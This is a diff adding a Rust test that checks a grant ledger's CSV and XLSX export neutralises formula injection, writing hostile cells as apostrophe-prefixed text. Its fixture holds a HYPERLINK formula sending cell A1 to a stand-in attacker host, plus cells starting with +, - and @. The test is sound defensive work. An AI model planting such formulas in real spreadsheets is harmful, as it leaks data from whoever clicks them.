@@ -721,6 +721,58 @@ fn the_ledger_reads_back_as_written() {
     let _ = b;
 }
 
+/// An applicant named like a formula is text in both files: in the CSV its
+/// cell starts with an apostrophe, in the XLSX it is a string with the
+/// apostrophe too, and the amounts stay numbers (OWASP, CSV injection).
+#[test]
+fn a_ledger_cell_that_looks_like_a_formula_is_written_as_text() {
+    let mut w = world();
+    let hostile = "=HYPERLINK(\"http://angriper.example/?\"&A1,\"Klikk her\")";
+    let mut input = application_input(&w.scheme.id, hostile, "10 000");
+    input.title = "+47 og -2 og @SUM(A1:A9)".into();
+    w.store.add_application(&actor(), &input).unwrap();
+    let dir = tempfile::tempdir().unwrap();
+
+    let csv_path = dir.path().join("regnskap.csv");
+    w.store
+        .export_ledger(&w.scheme.id, LedgerFormat::Csv, &csv_path, Lang::Nb)
+        .unwrap();
+    let csv = std::fs::read_to_string(&csv_path).unwrap();
+    let row = csv.trim_start_matches('\u{feff}').lines().nth(1).unwrap().to_owned();
+    let cells: Vec<&str> = row.split(';').collect();
+    assert!(cells[1].starts_with("\"'=HYPERLINK("), "the applicant: {row}");
+    assert!(cells.iter().any(|c| c.starts_with("'+47 og -2")), "the project: {row}");
+    assert!(
+        cells
+            .iter()
+            .all(|c| !c.trim_start_matches('"').starts_with(['=', '+', '-', '@'])),
+        "no cell starts a formula: {row}"
+    );
+
+    use calamine::{open_workbook, Data, Reader, Xlsx};
+    let xlsx_path = dir.path().join("regnskap.xlsx");
+    w.store
+        .export_ledger(&w.scheme.id, LedgerFormat::Xlsx, &xlsx_path, Lang::Nb)
+        .unwrap();
+    let mut book: Xlsx<_> = open_workbook(&xlsx_path).unwrap();
+    let sheet = book.worksheet_range("Grendemidler 2026").unwrap();
+    assert_eq!(sheet.get_value((1, 1)), Some(&Data::String(format!("'{hostile}"))));
+    assert_eq!(
+        sheet.get_value((1, 3)),
+        Some(&Data::String("'+47 og -2 og @SUM(A1:A9)".into()))
+    );
+    assert_eq!(
+        sheet.get_value((1, 5)),
+        Some(&Data::Float(10000.0)),
+        "the amount is a number"
+    );
+    let formulas = book.worksheet_formula("Grendemidler 2026").unwrap();
+    assert!(
+        formulas.used_cells().all(|(_, _, f)| f.is_empty()),
+        "the sheet holds no formula"
+    );
+}
+
 #[test]
 fn the_minutes_list_the_grants_decided_under_an_item() {
     let mut w = world();
